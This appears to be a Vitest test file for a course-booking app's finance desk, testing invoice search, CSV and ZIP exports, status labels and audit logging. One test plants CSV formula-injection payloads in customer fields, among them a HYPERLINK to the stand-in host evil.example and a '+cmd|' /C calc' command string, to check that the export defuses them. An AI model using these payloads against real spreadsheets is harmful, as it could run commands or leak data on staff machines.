// The finance desk: filtering and totals, the accounting CSV and the ZIP of PDFs.
import { parse } from "csv-parse/sync";
import JSZip from "jszip";
import { beforeAll, beforeEach, describe, expect, it } from "vitest";
import { and, desc, eq } from "drizzle-orm";
import { auditLogs, creditNotes, invoices } from "@/db/schema";
import { GET as csvRoute } from "@/app/admin/finance/export/csv/route";
import { GET as zipRoute } from "@/app/admin/finance/export/zip/route";
import { env } from "@/lib/env";
import { changeBooking } from "@/lib/booking/change-booking";
import { invoiceDesk } from "@/lib/invoices/desk";
import { CSV_COLUMNS } from "@/lib/invoices/exports";
import { isoDay } from "@/lib/invoices/periods";
import { sha256Hex } from "@/lib/invoices/render";
import { refundBooking } from "@/lib/payments/refund-booking";
import { createSessionFixture, db, getBooking } from "../fixtures";
import { clearJobs, createPaidBooking, invoiceOf, pdfText, setBooking, staffCookie, uniqueEmail } from "../finance-fixtures";
import { warmPdfPool } from "@/lib/pdf/render-pool";

// Start the PDF threads (they compile the documents once) before the first test's clock runs.
beforeAll(warmPdfPool);

const ORIGIN = "http://localhost:3000";
const today = () => isoDay(new Date(), env().FINANCE_TIME_ZONE);
const call = (route: typeof csvRoute, p: string, cookie?: string) =>
  route(new Request(`${ORIGIN}${p}`, { headers: cookie ? { cookie } : {} }), { params: Promise.resolve({}) });

beforeEach(clearJobs);

async function fixtures() {
  const { session } = await createSessionFixture({ capacity: 10, priceAmount: 12_000, depositAmount: 3_000, startsInDays: 40 });
  const tag = uniqueEmail("org").split("@")[0];
  const full = await createPaidBooking(session.id, { contact: { name: `Quinn ${tag}`, organisation: `Quartz ${tag} Ltd` }, attendees: [{ firstName: "A", lastName: "A" }, { firstName: "B", lastName: "B" }] });
  const deposit = await createPaidBooking(session.id, { paymentOption: "deposit", contact: { name: `Dana ${tag}` } });
  const actor = (await staffCookie("finance")).user;
  const refund = await refundBooking(db(), { bookingId: full.id, attendeeIds: [], amount: 2_000, reason: "Goodwill" }, actor);
  return { tag, full, deposit, refund, fullInvoice: (await invoiceOf(full.id))!, depositInvoice: (await invoiceOf(deposit.id))! };
}

describe("the invoice list", () => {
  it("finds invoices by number, customer and organisation, and filters by status with totals", async () => {
    const f = await fixtures();
    const opts = { now: new Date(), reminderDays: 7, timeZone: env().FINANCE_TIME_ZONE };
    const byNumber = await invoiceDesk(db(), { q: f.fullInvoice.number }, opts);
    expect(byNumber.invoices.map((i) => i.number)).toEqual([f.fullInvoice.number]);
    const byCustomer = await invoiceDesk(db(), { q: f.tag.toUpperCase() }, opts);
    expect(byCustomer.invoices.map((i) => i.number).sort()).toEqual([f.fullInvoice.number, f.depositInvoice.number].sort());
    expect(byCustomer.totals).toEqual([{ currency: "GBP", count: 2, subtotal: 30_000, tax: 6_000, total: 36_000, credited: 2_000, paid: 22_000 + 3_000, owed: 9_000 }]);
    const byOrganisation = await invoiceDesk(db(), { q: `quartz ${f.tag}` }, opts);
    expect(byOrganisation.invoices.map((i) => i.number)).toEqual([f.fullInvoice.number]);

    const deposits = await invoiceDesk(db(), { q: f.tag, status: "deposit_paid" }, opts);
    expect(deposits.invoices.map((i) => i.number)).toEqual([f.depositInvoice.number]);
    expect((await invoiceDesk(db(), { q: f.tag, status: "part_refunded" }, opts)).invoices.map((i) => i.number)).toEqual([f.fullInvoice.number]);
    // The balance date passes: the deposit invoice is overdue.
    await setBooking(f.deposit.id, { balanceDueAt: new Date(Date.now() - 86_400_000) });
    expect((await invoiceDesk(db(), { q: f.tag, status: "overdue" }, opts)).invoices.map((i) => i.number)).toEqual([f.depositInvoice.number]);

    // Dates are days where the seller is; issued today, so tomorrow finds nothing.
    expect((await invoiceDesk(db(), { q: f.tag, from: today(), to: today() }, opts)).invoices).toHaveLength(2);
    const tomorrow = isoDay(new Date(Date.now() + 86_400_000), env().FINANCE_TIME_ZONE);
    expect((await invoiceDesk(db(), { q: f.tag, from: tomorrow }, opts)).invoices).toHaveLength(0);
  });
});

describe("exports", () => {
  it("gives finance a CSV of every invoice and credit note issued in the range", async () => {
    const f = await fixtures();
    const { cookie } = await staffCookie("finance");
    expect((await call(csvRoute, `/admin/finance/export/csv?from=${today()}&to=${today()}`)).status).toBe(401);
    const bad = await call(csvRoute, `/admin/finance/export/csv?from=${today()}`, cookie);
    expect(bad.status).toBe(400);
    expect((await bad.json()).error.fields).toHaveProperty("to");

    const res = await call(csvRoute, `/admin/finance/export/csv?from=${today()}&to=${today()}`, cookie);
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(res.headers.get("content-disposition")).toContain(`turnout-documents-${today()}-to-${today()}.csv`);
    const rows = parse(await res.text(), { columns: true, bom: true }) as Record<string, string>[];
    const row = (n: string) => rows.find((r) => r.number === n)!;
    expect(row(f.fullInvoice.number)).toMatchObject({
      type: "invoice", issue_date: today(), booking_reference: f.full.reference, customer: `Quinn ${f.tag}`, organisation: `Quartz ${f.tag} Ltd`,
      currency: "GBP", net: "200.00", vat_rate: "20%", vat: "40.00", gross: "240.00", refunded: "20.00", status: "Part refunded",
      paid_to_date: "220.00", balance_owed: "0.00",
    });
    expect(row(f.depositInvoice.number)).toMatchObject({ gross: "120.00", paid_to_date: "30.00", balance_owed: "90.00", status: "Deposit paid" });
    expect(row(f.refund.creditNoteNumber)).toMatchObject({
      type: "credit_note", credits_invoice: f.fullInvoice.number, net: "-16.67", vat: "-3.33", gross: "-20.00", refunded: "20.00", status: "Refunded",
    });
    // Only the day asked for, and every invoice of it.
    expect(rows.every((r) => r.issue_date === today())).toBe(true);
    const issuedToday = (await db().select({ number: invoices.number, issuedAt: invoices.issuedAt }).from(invoices))
      .filter((i) => isoDay(i.issuedAt, env().FINANCE_TIME_ZONE) === today()).map((i) => i.number);
    expect(rows.filter((r) => r.type === "invoice").map((r) => r.number).sort()).toEqual(issuedToday.sort());
  });

  it("names a booking paid in full that then gained a place 'Part paid', not 'Deposit paid', in the same columns", async () => {
    const f = await fixtures();
    const email = uniqueEmail("part-paid");
    const grown = await createPaidBooking(f.deposit.sessionId, { contact: { name: `Piper ${f.tag}`, email } });
    await changeBooking(db(), { bookingId: grown.id, actor: { kind: "booker", email }, change: { addAttendees: [{ firstName: "Extra", lastName: "Place", requirements: [] }] } });
    expect(await getBooking(grown.id)).toMatchObject({ paymentStatus: "deposit_paid", paymentOption: "full" });
    const grownInvoice = (await invoiceOf(grown.id))!;
    const { cookie } = await staffCookie("finance");
    const res = await call(csvRoute, `/admin/finance/export/csv?from=${today()}&to=${today()}&q=${f.tag}&status=deposit_paid`, cookie);
    const text = (await res.text()).replace(/^\uFEFF/, "");
    expect(text.split("\r\n")[0]).toBe(CSV_COLUMNS.join(","));
    const rows = parse(text, { columns: true }) as Record<string, string>[];
    expect(rows.map((r) => r.number).sort()).toEqual([f.depositInvoice.number, grownInvoice.number].sort());
    expect(rows.find((r) => r.number === grownInvoice.number)).toMatchObject({
      type: "invoice", booking_reference: grown.reference, gross: "120.00", paid_to_date: "120.00", balance_owed: "120.00", status: "Part paid",
    });
    expect(rows.find((r) => r.number === f.depositInvoice.number)).toMatchObject({ status: "Deposit paid" });
    const desk = await invoiceDesk(db(), { q: f.tag, status: "deposit_paid" }, { now: new Date(), reminderDays: 7, timeZone: env().FINANCE_TIME_ZONE });
    expect(desk.invoices.map((i) => [i.number, i.statusText]).sort()).toEqual([[f.depositInvoice.number, "Deposit paid"], [grownInvoice.number, "Part paid"]].sort());
  });

  it("defuses customer text a spreadsheet would run as a formula, and keeps credit notes' negative amounts as numbers", async () => {
    const { session } = await createSessionFixture({ capacity: 4, priceAmount: 12_000 });
    const tag = uniqueEmail("csv").split("@")[0];
    const booking = await createPaidBooking(session.id, {
      contact: { name: `=HYPERLINK("http://evil.example/?${tag}","Click")`, organisation: `+cmd|' /C calc'!A0 ${tag}` },
      billing: { line1: "1 Test Street", city: "London", postalCode: "E1 6AN", country: "GB", vatId: "@SUM(1+1)" },
    });
    const invoice = (await invoiceOf(booking.id))!;
    const actor = (await staffCookie("finance")).user;
    const refund = await refundBooking(db(), { bookingId: booking.id, attendeeIds: [], amount: 1_000, reason: "Goodwill" }, actor);
    const { cookie } = await staffCookie("finance");
    const res = await call(csvRoute, `/admin/finance/export/csv?from=${today()}&to=${today()}`, cookie);
    const rows = parse(await res.text(), { columns: true, bom: true }) as Record<string, string>[];
    for (const n of [invoice.number, refund.creditNoteNumber]) {
      const row = rows.find((r) => r.number === n)!;
      expect(row.customer).toBe(`'=HYPERLINK("http://evil.example/?${tag}","Click")`);
      expect(row.organisation).toBe(`'+cmd|' /C calc'!A0 ${tag}`);
      expect(row.vat_id).toBe("'@SUM(1+1)");
    }
    expect(rows.find((r) => r.number === refund.creditNoteNumber)).toMatchObject({ gross: "-10.00", net: "-8.33", vat: "-1.67" });
  });

  // The ZIP holds every document issued today in this run's database: hundreds once the invoice tests ran,
  // each rendered to PDF here, so this test gets more time than the default.
  it("gives finance a ZIP of the range's PDFs with their checksums", async () => {
    const f = await fixtures();
    const { cookie } = await staffCookie("admin");
    expect((await call(zipRoute, `/admin/finance/export/zip?from=${today()}&to=${today()}`)).status).toBe(401);
    const res = await call(zipRoute, `/admin/finance/export/zip?from=${today()}&to=${today()}`, cookie);
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("application/zip");
    const zip = await JSZip.loadAsync(new Uint8Array(await res.arrayBuffer()));
    const sums = (await zip.file("SHA256SUMS")!.async("string")).trim().split("\n").map((l) => l.split("  "));
    const names = sums.map(([, name]) => name);
    for (const n of [`invoices/${f.fullInvoice.number}.pdf`, `invoices/${f.depositInvoice.number}.pdf`, `credit-notes/${f.refund.creditNoteNumber}.pdf`])
      expect(names).toContain(n);
    expect(Object.values(zip.files).filter((e) => !e.dir).map((e) => e.name).sort()).toEqual([...names, "SHA256SUMS"].sort());
    for (const [sum, name] of sums) expect(sha256Hex(await zip.file(name)!.async("uint8array"))).toBe(sum);
    const pdf = await zip.file(`invoices/${f.depositInvoice.number}.pdf`)!.async("nodebuffer");
    expect(await pdfText(pdf)).toContain(f.depositInvoice.number);
    const [stored] = await db().select({ sha: invoices.pdfSha256 }).from(invoices).where(eq(invoices.id, f.fullInvoice.id));
    expect(sums.find(([, n]) => n === `invoices/${f.fullInvoice.number}.pdf`)![0]).toBe(stored.sha);
    const [cn] = await db().select({ sha: creditNotes.pdfSha256 }).from(creditNotes).where(eq(creditNotes.number, f.refund.creditNoteNumber));
    expect(sums.find(([, n]) => n.includes(f.refund.creditNoteNumber))![0]).toBe(cn.sha);
  }, 120_000);
});

describe("exports follow the list's filter and are audited", () => {
  const csvNumbers = async (res: Response) => (parse(await res.text(), { columns: true, bom: true }) as Record<string, string>[]).map((r) => r.number).sort();
  const zipNumbers = async (res: Response) => Object.keys((await JSZip.loadAsync(new Uint8Array(await res.arrayBuffer()))).files)
    .filter((n) => n.endsWith(".pdf")).map((n) => n.replace(/^.*\//, "").replace(/\.pdf$/, "")).sort();
  const lastExport = async (actorId: string) => (await db().select().from(auditLogs)
    .where(and(eq(auditLogs.actorId, actorId), eq(auditLogs.action, "finance.export"))).orderBy(desc(auditLogs.id)).limit(1))[0];

  it("holds only the documents matching the search, status and course, and logs who took what", async () => {
    const f = await fixtures();
    // Same customer on another course: matched by the search, not by the course.
    const other = await createSessionFixture({ capacity: 4, priceAmount: 5_000 });
    const elsewhere = (await invoiceOf((await createPaidBooking(other.session.id, { contact: { name: `Quinn ${f.tag}` } })).id))!;
    const course = (await db().query.courseSessions.findFirst({ where: (s, { eq: is }) => is(s.id, f.full.sessionId) }))!.courseId;
    const { cookie, user } = await staffCookie("finance");
    const range = `from=${today()}&to=${today()}`;

    const everything = await call(csvRoute, `/admin/finance/export/csv?${range}&q=${f.tag}`, cookie);
    expect(await csvNumbers(everything)).toEqual([f.fullInvoice.number, f.depositInvoice.number, f.refund.creditNoteNumber, elsewhere.number].sort());

    const byCourse = await call(csvRoute, `/admin/finance/export/csv?${range}&q=${f.tag}&course=${course}`, cookie);
    expect(await csvNumbers(byCourse)).toEqual([f.fullInvoice.number, f.depositInvoice.number, f.refund.creditNoteNumber].sort());
    expect(await lastExport(user.id)).toMatchObject({
      entityType: "finance_documents",
      after: { format: "csv", filter: { from: today(), to: today(), q: f.tag, course }, rows: 3, invoices: 2, creditNotes: 1 },
    });

    // A status keeps the invoices with it, and the credit notes against those invoices only.
    const deposits = await call(csvRoute, `/admin/finance/export/csv?${range}&q=${f.tag}&status=deposit_paid`, cookie);
    expect(await csvNumbers(deposits)).toEqual([f.depositInvoice.number]);
    const refunded = await call(zipRoute, `/admin/finance/export/zip?${range}&q=${f.tag}&course=${course}&status=part_refunded`, cookie);
    expect(refunded.status).toBe(200);
    expect(await zipNumbers(refunded)).toEqual([f.fullInvoice.number, f.refund.creditNoteNumber].sort());
    const zipEntry = await lastExport(user.id);
    expect(zipEntry).toMatchObject({
      actorEmail: user.email,
      after: { format: "zip", filter: { q: f.tag, course, status: "part_refunded" }, rows: 2, invoices: 1, creditNotes: 1 },
    });
    expect(Date.now() - zipEntry.createdAt.getTime()).toBeLessThan(60_000);
  });

  it("refuses a filter the list would not accept with 400 and field messages, and logs nothing", async () => {
    const { cookie, user } = await staffCookie("finance");
    const range = `from=${today()}&to=${today()}`;
    for (const [query, field] of [
      [`${range}&course=not-a-course`, "course"], [`${range}&status=bogus`, "status"], [`${range}&q=a&q=b`, "q"],
      [`from=2026-13-45&to=${today()}`, "from"], [`${range}&q=${"x".repeat(101)}`, "q"], [`${range}&q=a%00b`, "q"],
    ] as const) {
      for (const route of [csvRoute, zipRoute]) {
        const res = await call(route, `/admin/finance/export/x?${query}`, cookie);
        expect(res.status, query).toBe(400);
        expect((await res.json()).error.fields, query).toHaveProperty(field);
      }
    }
    expect(await lastExport(user.id)).toBeUndefined();
  });
});
